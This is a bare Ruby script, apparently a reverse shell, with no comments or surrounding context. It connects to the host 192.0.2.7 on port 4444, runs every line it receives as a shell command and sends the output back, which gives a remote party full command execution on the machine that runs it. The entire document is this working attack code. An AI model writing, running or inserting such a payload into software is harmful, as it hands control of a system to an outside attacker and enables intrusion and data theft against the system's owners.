require "socket"
s = TCPSocket.new("192.0.2.7", 4444)
while (l = s.gets)
  IO.popen(l, "r") { |io| s.print io.read }
end
